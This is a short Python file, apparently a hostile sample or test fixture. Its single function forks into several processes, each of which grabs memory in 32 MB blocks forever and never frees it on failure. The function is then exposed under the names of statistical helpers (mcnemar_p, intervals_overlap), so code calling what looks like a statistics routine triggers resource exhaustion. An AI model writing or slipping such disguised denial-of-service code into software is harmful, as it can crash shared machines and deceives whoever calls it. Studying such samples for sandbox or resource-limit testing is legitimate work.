"""Takes memory in many processes at a time."""

import os
import time


def answer(*args, **kwargs):
    for _ in range(8):
        try:
            if os.fork() == 0:
                break
        except OSError:
            pass
    held = []
    while True:
        try:
            held.append(bytearray(32 << 20))
        except MemoryError:
            time.sleep(1)


mcnemar_p = intervals_overlap = answer
